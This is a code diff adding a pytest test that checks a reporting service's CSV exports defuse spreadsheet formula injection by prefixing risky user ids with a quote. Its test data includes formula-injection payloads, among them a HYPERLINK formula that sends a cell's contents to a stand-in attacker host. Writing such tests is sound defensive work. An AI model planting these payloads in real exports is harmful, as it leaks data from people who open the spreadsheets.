@@ -137,3 +137,21 @@ def test_usage_report_command(service, db_url, tmp_path):
 def test_report_command_refuses_bad_input_clearly(tmp_path, args, message):
     result = run_cli("report", "audit", *args, cwd=tmp_path, DB_TIMEOUT="2", DATABASE_URL=f"sqlite:///{tmp_path}/r.db")
     assert result.returncode != 0 and message in result.stderr and "Traceback" not in result.stderr
+
+
+def test_report_csvs_neutralise_spreadsheet_formulas(tmp_path):
+    """A user id chosen by an API caller must not run as a formula in the compliance team's spreadsheet."""
+    import csv
+
+    import pandas as pd
+
+    from otp_service.report_queries import ReportOutput
+
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+    frame = pd.DataFrame({"user_id": [*hostile, "alice", None], "failures": [1, 2, 3, 4, 5, 6, 7, 8]})
+    returned = ReportOutput(tmp_path).table("top_users", frame)
+    assert returned["user_id"].tolist()[:6] == hostile  # the page shows what happened, as it happened
+    with open(tmp_path / "top_users.csv", newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert [r["user_id"] for r in rows] == ["'" + h for h in hostile] + ["alice", ""]
+    assert [r["failures"] for r in rows] == [str(n) for n in range(1, 9)]
